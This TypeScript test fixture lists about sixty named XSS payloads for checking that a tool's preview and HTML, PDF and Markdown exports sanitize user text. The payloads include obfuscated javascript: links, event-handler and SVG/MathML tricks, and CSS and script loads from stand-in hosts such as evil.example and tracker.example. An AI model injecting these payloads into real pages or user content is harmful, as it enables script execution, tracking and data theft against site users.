/**
 * Known ways of getting script, event handlers or outside requests into HTML built from user
 * text. Each is run through the preview, the HTML export (also what the PDF path prints) and the
 * Markdown exports.
 */
export const xssPayloads: readonly { readonly name: string; readonly text: string }[] = [
  // Script elements
  { name: 'script tag', text: '<script>alert(1)</script>' },
  { name: 'script tag, upper case with src', text: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'nested script tag', text: '<scr<script>ipt>alert(1)</script>' },
  { name: 'script inside a paragraph', text: 'Hello <script>alert(1)</script> there' },
  // Event handlers
  { name: 'img onerror', text: '<img src=x onerror=alert(1)>' },
  { name: 'body onload', text: '<body onload=alert(1)>' },
  { name: 'div onclick', text: '<div onclick="alert(1)">click me</div>' },
  { name: 'mixed-case handler', text: '<a href="https://ok.example" OnClIcK="alert(1)">x</a>' },
  { name: 'details ontoggle', text: '<details open ontoggle=alert(1)>' },
  // Dangerous link schemes in Markdown
  { name: 'javascript: link', text: '[x](javascript:alert(1))' },
  { name: 'mixed-case javascript: link', text: '[x](JaVaScRiPt:alert(1))' },
  { name: 'hex-entity javascript: link', text: '[x](jav&#x61;script:alert(1))' },
  {
    name: 'decimal-entity javascript: link',
    text: '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  },
  { name: 'named-entity colon', text: '[x](javascript&colon;alert(1))' },
  { name: 'tab-split javascript: link', text: '[x](<java\tscript:alert(1)>)' },
  { name: 'entity-tab-split javascript: link', text: '[x](java&#x09;script:alert(1))' },
  { name: 'leading-space javascript: link', text: '[x](  javascript:alert(1))' },
  { name: 'vbscript: link', text: '[x](vbscript:msgbox(1))' },
  { name: 'mixed-case vbscript: link', text: '[x](VbScRiPt:msgbox(1))' },
  {
    name: 'data:text/html link',
    text: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { name: 'upper-case data:text/html link', text: '[x](DATA:text/html,hello)' },
  { name: 'reference-style javascript: link', text: '[x][evil]\n\n[evil]: javascript:alert(1)' },
  { name: 'autolink javascript:', text: '<javascript:alert(1)>' },
  { name: 'protocol-relative link', text: '[x](//evil.example/steal)' },
  { name: 'plain http link', text: '[x](http://evil.example/)' },
  {
    name: 'link title breaking out',
    text: '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
  },
  {
    name: 'image inside javascript: link',
    text: '[![i](https://tracker.example/p.png)](javascript:alert(1))',
  },
  // Dangerous links in raw HTML
  { name: 'raw javascript: anchor', text: '<a href="javascript:alert(1)">x</a>' },
  { name: 'raw entity-split anchor', text: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'raw newline-split anchor', text: '<a href="java\nscript:alert(1)">x</a>' },
  {
    name: 'raw data:text/html anchor',
    text: '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  },
  // Images
  { name: 'javascript: image', text: '![x](javascript:alert(1))' },
  { name: 'tracking pixel', text: '![x](https://tracker.example/pixel.gif)' },
  { name: 'protocol-relative image', text: '![x](//tracker.example/pixel.gif)' },
  { name: 'svg data image', text: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'data:text/html image', text: '![x](data:text/html,<script>alert(1)</script>)' },
  {
    name: 'raw img srcset',
    text: '<img srcset="https://tracker.example/x.png 1x" src="data:image/png;base64,AAAA">',
  },
  // SVG and MathML
  { name: 'svg onload', text: '<svg onload=alert(1)>' },
  { name: 'svg script', text: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg xlink:href',
    text: '<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">x</text></a></svg>',
  },
  {
    name: 'svg use',
    text: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  },
  {
    name: 'math mutation',
    text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  // Embedded documents, navigation and forms
  { name: 'iframe srcdoc', text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe javascript:', text: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'object', text: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', text: '<embed src="https://evil.example/x.swf">' },
  { name: 'meta refresh', text: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', text: '<base href="https://evil.example/">' },
  {
    name: 'form action',
    text: '<form action="https://evil.example/"><input type=submit formaction="javascript:alert(1)"></form>',
  },
  { name: 'link stylesheet', text: '<link rel=stylesheet href=https://evil.example/x.css>' },
  { name: 'video poster', text: '<video poster=https://evil.example/p.png></video>' },
  // CSS
  {
    name: 'style attribute url()',
    text: '<div style="background:url(https://evil.example/x.png)">x</div>',
  },
  { name: 'style attribute expression()', text: '<p style="width: expression(alert(1))">x</p>' },
  {
    name: 'style element import',
    text: "<style>@import 'https://evil.example/x.css'; body { background: url(//evil.example/y) }</style>",
  },
  {
    name: 'table background',
    text: '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  },
  // Broken and unclosed markup
  { name: 'unclosed img', text: '<img src=x onerror=alert(1)//' },
  { name: 'unclosed anchor', text: '<a href="javascript:alert(1)' },
  { name: 'doubled brackets', text: '<<script>script>alert(1)<</script>/script>' },
  { name: 'tag inside tag', text: '<div <img src=x onerror=alert(1)>>' },
  { name: 'comment trick', text: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'noscript trick', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'template', text: '<template><script>alert(1)</script></template>' },
  {
    name: 'script in a list item',
    text: '- <script>alert(1)</script>\n- [x](javascript:alert(1))',
  },
  { name: 'script in a table', text: '| a |\n| - |\n| <img src=x onerror=alert(1)> |' },
  { name: 'script in a quote', text: '> <svg onload=alert(1)>' },
]
